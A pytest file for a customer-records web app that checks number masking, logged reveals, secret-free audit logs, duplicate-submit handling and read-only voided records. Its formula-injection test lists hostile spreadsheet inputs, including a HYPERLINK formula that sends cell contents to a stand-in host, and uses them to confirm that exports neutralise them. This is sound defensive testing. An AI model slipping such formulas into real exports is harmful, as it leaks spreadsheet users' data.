"""Issue 19: no full number without a logged reveal, no secret in the audit, no formula in an
export, no double record from a double tap, nothing written on a voided record."""
import collections
import io
import json
import re

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from blueprints import demo
from models import (
    MODELS,
    AccessLog,
    AuditEntry,
    Customer,
    EmergencyContact,
    User,
    VipCard,
    Visit,
    schema,
)
from models.masking import SECRET_CHANGED, mask
from services import accounts, identity


def valid_id(prefix17):
    """An 18-digit resident ID with its check digit."""
    total = sum(int(d) * w for d, w in zip(prefix17, identity.ID_WEIGHTS))
    return prefix17 + identity.ID_CHECK[total % 11]


def full_numbers():
    """Every customer-side phone and ID number stored (staff phones are the admin's to see)."""
    numbers = set()
    for model in MODELS:
        if model is User or not model.masked_fields:
            continue
        for name in model.masked_fields:
            field = getattr(model, name)
            numbers.update(value for (value,) in model.select(field).tuples()
                           if value and len(value) >= 8)
    return numbers


def body_text(response):
    """What a person could read in a response: HTML, a workbook's cells, a PDF's text."""
    kind = response.headers.get("Content-Type", "")
    data = response.get_data()
    if kind.startswith("application/pdf"):
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    if "spreadsheetml" in kind:
        book = load_workbook(io.BytesIO(data), read_only=True)
        return "\n".join(str(v) for sheet in book.worksheets
                         for row in sheet.iter_rows(values_only=True) for v in row)
    if kind.startswith("image/"):
        return ""
    return data.decode("utf-8", "replace")


@pytest.fixture
def seeded(app, users, database):
    """The demo month, plus one record of each kind with every number field filled."""
    demo.fill()
    customer = Customer.select().where(Customer.not_voided()).order_by(Customer.id).first()
    customer.phone2, customer.id_number = "13566667777", valid_id("11010119900307123")
    customer.save()
    contact = EmergencyContact.create(customer=customer, name="紧急联系人", phone="13655556666",
                                      phone2="13744445555")
    visit = Visit.select().order_by(Visit.id).first()
    visit.phone, visit.id_number = "13922223333", valid_id("44030419851212456")
    visit.save()
    card = VipCard.select().order_by(VipCard.id).first()
    card.id_number = valid_id("31010119700101789")
    card.save()
    return {"customer": customer, "contact": contact, "visit": visit, "card": card}


# Which record a rule's <int:id> names, by the rule's start (the first that matches).
ID_OF = [("/archives/", "customer"), ("/reception/visits/", "visit"), ("/vip/cards/", "card")]


def walk_urls(app, seeded):
    """Every GET page, partial, export and PDF of the app, with its ids filled in."""
    from models import Complaint, WorkOrder
    others = {"/complaints/returns/": 1, "/complaints/": Complaint.select().first().id,
              "/repairs/": WorkOrder.select().first().id}
    query = (f"?customer={seeded['customer'].id}&from={seeded['visit'].id}"
             f"&card={seeded['card'].id}&view=all")
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in ("static", "core.set_language") \
                or {"token", "filename"} & set(rule.arguments):
            continue
        values = {}
        for name in rule.arguments:
            if name == "contact_id":
                values[name] = seeded["contact"].id
                continue
            for start, kind in ID_OF:
                if rule.rule.startswith(start):
                    values[name] = seeded[kind].id
                    break
            else:
                values[name] = next((v for start, v in others.items()
                                     if rule.rule.startswith(start)), 1)
        path = rule.build(values)[1]
        yield rule.endpoint, path
        yield rule.endpoint, path + query


@pytest.mark.parametrize("language", ["zh", "en"])
@pytest.mark.parametrize("role", ["desk", "sales", "engineer", "manager", "gm", "admin"])
def test_no_full_number_leaves_on_any_page(app, login, seeded, role, language):
    """Issue 19, item 2: every GET for every role, numbers masked everywhere (edit forms, the
    prefilled repeat visit, exports, PDFs, the audit). One test per role and language, so that
    pytest-xdist's workers share the walk."""
    app.config["EXPORT_INLINE_ROWS"] = 10_000  # exports answer at once, not as a job
    numbers = full_numbers()
    assert {"13566667777", "13655556666", "13922223333", seeded["visit"].id_number,
            seeded["card"].id_number} <= numbers and len(numbers) > 100
    leaks = []
    repeated = []
    browser = login(role)
    browser.get(f"/lang/{language}")  # (issue 22: every page in both languages, no 5xx)
    for endpoint, url in walk_urls(app, seeded):
        response = browser.get(url)
        assert response.status_code < 500, (role, language, url)
        if response.status_code != 200:
            continue
        text = body_text(response)
        leaks += [(role, url, n) for n in numbers if n in text]
        if response.headers.get("Content-Type", "").startswith("text/html"):
            # (issue 22: every field its own id, so its label finds it)
            ids = collections.Counter(re.findall(r'\bid="([^"]+)"', text))
            repeated += [(role, url, i) for i, n in ids.items() if n > 1]
    assert leaks == []
    assert repeated == []


def test_a_full_number_leaves_only_in_a_logged_reveal(login, seeded):
    """A reveal shows the number, and only after the access log has it."""
    manager = login("manager")
    customer = seeded["customer"]
    shown = manager.submit(f"/archives/{customer.id}/reveal",
                           {"field": "id_number", "reason": "核对身份"},
                           page=f"/archives/{customer.id}")
    assert customer.id_number in shown.get_data(as_text=True)
    entry = AccessLog.get(AccessLog.action == "reveal")
    assert entry.record_id == customer.id and entry.reason == "核对身份"


def test_an_edit_form_keeps_the_stored_number_unless_a_new_one_is_typed(login, seeded):
    customer, desk = seeded["customer"], login("desk")
    page = desk.get(f"/archives/{customer.id}/edit").get_data(as_text=True)
    assert customer.phone not in page and mask("phone", customer.phone) in page
    form = {"kind": customer.kind, "name": customer.name, "phone": mask("phone", customer.phone),
            "phone2": mask("phone", customer.phone2),
            "id_number": mask("id", customer.id_number), "status": customer.status,
            "owner": str(customer.owner_id or ""), "notes": "改了备注"}
    assert desk.submit(f"/archives/{customer.id}/edit", form).status_code == 302
    stored = Customer.get_by_id(customer.id)
    assert (stored.phone, stored.phone2, stored.id_number, stored.notes) == (
        customer.phone, customer.phone2, customer.id_number, "改了备注")
    form["phone2"] = "13511112222"
    assert desk.submit(f"/archives/{customer.id}/edit", form).status_code == 302
    assert Customer.get_by_id(customer.id).phone2 == "13511112222"


def test_a_repeat_visit_prefills_masked_and_saves_the_stored_number(login, seeded):
    previous, desk = seeded["visit"], login("desk")
    page = desk.get(f"/reception/visits/new?from={previous.id}").get_data(as_text=True)
    assert previous.id_number not in page and previous.phone not in page
    response = desk.submit(f"/reception/visits/new?from={previous.id}", {
        "name": previous.name, "phone": mask("phone", previous.phone),
        "id_type": previous.id_type, "id_number": mask("id", previous.id_number),
        "headcount": "1", "visitee": "3栋1201", "purpose": "探亲",
        "reception_class": "C", "arrived_at": "2026-11-20T10:00",
        "host": str(previous.host_id)})
    assert response.status_code == 302, response.get_data(as_text=True)
    latest = Visit.select().order_by(Visit.id.desc()).first()
    assert (latest.phone, latest.id_number) == (previous.phone, previous.id_number)


def test_the_audit_keeps_no_secret_and_masks_numbers(app, login, users, seeded):
    """Issue 19, item 1: for every model with declared secrets, change them and read /audit
    and its export as every role: the values never appear."""
    admin = login("admin")
    desk = users["desk"]
    admin.submit(f"/admin/users/{desk.id}/password", {"password": "another-pass-9"})
    accounts.set_active(User.get_by_id(desk.id), False, actor=users["admin"])
    declared = [m for m in MODELS if m.secret_fields]
    assert User in declared
    secrets = set()
    for model in declared:
        for row in model.select():
            secrets.update(str(getattr(row, name)) for name in model.secret_fields)
    for entry in AuditEntry.select().where(AuditEntry.model == "User"):
        values = {**json.loads(entry.before), **json.loads(entry.after)}
        assert all(values[name] == SECRET_CHANGED for name in User.secret_fields
                   if name in values)
    numbers = full_numbers()
    for role in ("manager", "gm", "admin"):
        browser = login(role) if role != "admin" else admin
        for url in ("/audit", "/audit?model=User", "/audit/export", "/audit/export?model=User",
                    "/audit?model=Customer", "/audit/export?model=Customer"):
            text = body_text(browser.get(url))
            assert not [s for s in secrets if s in text], (role, url)
            assert not [n for n in numbers if n in text], (role, url)
        assert "已更改" in browser.get("/audit?model=User").get_data(as_text=True)


def test_old_audit_rows_are_scrubbed_by_the_upgrade(users, database):
    user = users["desk"]
    AuditEntry.create(action="update", model="User", record_id=user.id, label="old",
                      before=json.dumps({"password_hash": user.password_hash,
                                         "session_token": user.session_token}),
                      after=json.dumps({"password_hash": "$argon2id$v=19$new",
                                        "phone": "13812345678"}))
    AuditEntry.create(action="create", model="Customer", record_id=1, label="old",
                      after=json.dumps({"phone": "13812345678", "name": "张三"}))
    from models.schema import SchemaInfo
    SchemaInfo.update(version=6).execute()
    schema.upgrade()
    text = " ".join(e.before + e.after for e in AuditEntry.select())
    assert user.password_hash not in text and user.session_token not in text
    assert "$argon2id$v=19$new" not in text and "13812345678" not in text
    assert "138****5678" in text and "张三" in text


# Excel formula injection (issue 19, item 3): text that a spreadsheet would run.
FORMULAS = ['=HYPERLINK("http://e.x/?"&A1,"go")', "\t=1+1", "+1+1", "-1+1",
            "@SUM(1)", "\r=1+1", "  =1+1"]


def test_no_export_writes_a_live_formula(app, login, users, database):
    from blueprints.complaints import service as complaints
    from models import Complaint
    from services.exports import looks_like_formula
    for n, name in enumerate(FORMULAS):
        Customer(name=name, phone=f"1390000{n:04d}", kind="company", contact_person=name).save()
        complaints.intake(Complaint(complainant=name, phone=f"1370000{n:04d}", content=name,
                                    category="服务质量"), users["desk"])
    app.config["EXPORT_INLINE_ROWS"] = 10_000
    exports = [r.rule for r in app.url_map.iter_rules()
               if "GET" in r.methods and "export" in r.rule and not r.arguments]
    assert len(exports) >= 8
    checked = 0
    for role in ("manager", "admin", "desk"):
        browser = login(role)
        for url in exports:
            response = browser.get(url + "?view=all")
            if response.status_code != 200:
                continue
            book = load_workbook(io.BytesIO(response.get_data()))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, cell.value)
                        if looks_like_formula(cell.value):
                            assert cell.data_type == "s" and cell.quotePrefix, (url, cell.value)
                            checked += 1
    assert checked >= len(FORMULAS) * 2


def _double_tap_cases(users, customer_card, gift):
    """(form page, POST url, data, count of what it makes) for the create forms."""
    from models import Complaint, Handover, Purchase, Redemption, WorkOrder
    at = "2026-11-20T10:00"
    return [
        ("/complaints/new", "/complaints/new", {
            "received_at": at, "channel": "phone", "complainant": "投诉人", "severity": "general",
            "category": "服务质量", "region": "in_province", "content": "双击测试"}, Complaint),
        ("/reception/visits/new", "/reception/visits/new", {
            "name": "访客", "purpose": "来访", "headcount": "1", "id_type": "id_card",
            "arrived_at": at, "host": str(users["desk"].id), "reception_class": "C"}, Visit),
        ("/repairs/new", "/repairs/new", {
            "received_at": at, "contact_phone": "13800000000", "location": "3栋",
            "area": "unit", "content": "双击报修", "channel": "phone"}, WorkOrder),
        (f"/vip/counter?card={customer_card.id}", f"/vip/counter?card={customer_card.id}", {
            "card": str(customer_card.id), "receipt_no": "R-77", "amount_before": "150",
            "receipt_signed": "y"}, Purchase),
        ("/archives/new", "/archives/new", {
            "kind": "resident", "name": "新客户", "phone": "13712345678",
            "status": "cooperating"}, Customer),
        ("/vip/enrol", "/vip/enrol", {"name": "新会员", "phone": "13612345678",
                                      "handbook_given": "y"}, VipCard),
        ("/reception/handovers/new", "/reception/handovers/new", {
            "shift": "day", "items": "交接事项"}, Handover),
        (f"/vip/cards/{customer_card.id}", f"/vip/cards/{customer_card.id}/redeem", {
            "gift": str(gift.id)}, Redemption),
    ]


def test_a_double_tap_makes_one_record(app, users, database):
    """Issue 19, item 9: eight submits of one form at once make one record, and every one of
    them is sent to where the first one went."""
    import re
    import threading

    from blueprints.vip import service as vip
    from models import Gift, PointsEntry
    from services import settings as settings_service
    from tests.conftest import Browserish
    owner = Customer.create(name="会员", phone="13900001111")
    card = vip.enrol(VipCard(customer=owner, name="会员", phone="13900001111",
                             handbook_given=True), users["desk"], settings_service.load())
    PointsEntry.create(card=card, delta=1000, kind="earn", note="test")
    gift = Gift.create(name="雨伞", points=100, stock=50)
    clerks = []
    for _ in range(8):
        browser = Browserish(app.test_client())
        assert browser.login("manager").status_code == 302
        clerks.append(browser)
    for page, url, data, model in _double_tap_cases(users, card, gift):
        html = clerks[0].get(page).get_data(as_text=True)
        key = re.search(r'name="once" value="([^"]+)"', html)
        assert key, f"{page} has no one-time key"
        before = model.select().count()
        answers, start = [], threading.Barrier(len(clerks))

        def submit(browser):
            payload = dict(data, once=key.group(1), csrf_token=browser.token("/"))
            start.wait()
            answers.append(browser.post(url, data=payload))
        threads = [threading.Thread(target=submit, args=(b,)) for b in clerks]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert [a.status_code for a in answers] == [302] * len(clerks), (url, [
            a.get_data(as_text=True)[:300] for a in answers if a.status_code != 302])
        assert len({a.location for a in answers}) == 1, url
        assert model.select().count() == before + 1, url


def test_a_form_sent_back_with_errors_can_be_sent_again(login, database):
    desk = login("desk")
    html = desk.get("/complaints/new").get_data(as_text=True)
    import re
    key = re.search(r'name="once" value="([^"]+)"', html).group(1)
    data = {"received_at": "2026-11-20T10:00", "channel": "phone", "complainant": "投诉人",
            "severity": "general", "category": "服务质量", "region": "in_province",
            "content": "", "once": key}
    assert desk.submit("/complaints/new", data).status_code == 422  # content missing
    data["content"] = "补上内容"
    assert desk.submit("/complaints/new", data).status_code == 302
    from models import Complaint
    assert Complaint.select().count() == 1


def test_a_voided_record_is_read_only_until_restored(login, users, database, make_customer):
    """Issue 19, item 10: edit, reveal, add-contact and void again are refused on a voided
    customer with a message; the header search leaves it out; restoring makes it work."""
    customer = make_customer(name="张作废", phone="13812340000", id_number="AB12345")
    desk, manager = login("desk"), login("manager")
    assert desk.submit(f"/archives/{customer.id}/void", {"reason": "重复建档"},
                       page=f"/archives/{customer.id}").status_code == 302
    page = f"/archives/{customer.id}"
    attempts = [
        (f"/archives/{customer.id}/edit", {"kind": "resident", "name": "改名", "phone":
                                           "13812340000", "status": "cooperating"}),
        (f"/archives/{customer.id}/reveal", {"field": "phone", "reason": "核对"}),
        (f"/archives/{customer.id}/contacts/new", {"name": "联系人", "phone": "13700000000"}),
        (f"/archives/{customer.id}/void", {"reason": "改写原因"}),
        (f"/archives/{customer.id}/contacts-log", {"method": "phone", "note": "打过电话"}),
    ]
    for url, data in attempts:
        response = manager.submit(url, data, page=page)
        assert response.status_code == 409, url
        assert "已作废" in response.get_data(as_text=True)
    assert manager.get(f"/archives/{customer.id}/edit").status_code == 409
    stored = Customer.get_by_id(customer.id)
    assert (stored.name, stored.void_reason) == ("张作废", "重复建档")
    assert not AccessLog.select().where(AccessLog.action == "reveal").exists()
    assert "张作废" not in manager.get("/search?q=zzf").get_data(as_text=True)
    assert "张作废" not in manager.get("/search?q=张作").get_data(as_text=True)
    manager.submit(f"/records/customer/{customer.id}/restore", {}, page="/records/voided")
    assert not Customer.get_by_id(customer.id).voided
    assert manager.get(f"/archives/{customer.id}/edit").status_code == 200
    assert "张作废" in manager.get("/search?q=张作").get_data(as_text=True)


def test_a_confidential_section_opens_only_with_a_reason(login, users, database,
                                                         make_customer):
    """Issue 19, item 12 (查阅程序): ?open=credit without a reason opens nothing and logs
    nothing; with one, the access log has the reason."""
    from services import settings as settings_service
    customer = make_customer()
    section = settings_service.load()["confidential_sections"][0]
    manager = login("manager")
    for reason in ("", "   "):
        page = manager.get(f"/archives/{customer.id}/documents?open={section}&reason={reason}")
        assert page.status_code == 200 and "须填写查阅原因" in page.get_data(as_text=True)
    assert not AccessLog.select().where(AccessLog.action == "open").exists()
    manager.get(f"/archives/{customer.id}/documents?open={section}&reason=核对信用")
    assert AccessLog.get(AccessLog.action == "open").reason == "核对信用"
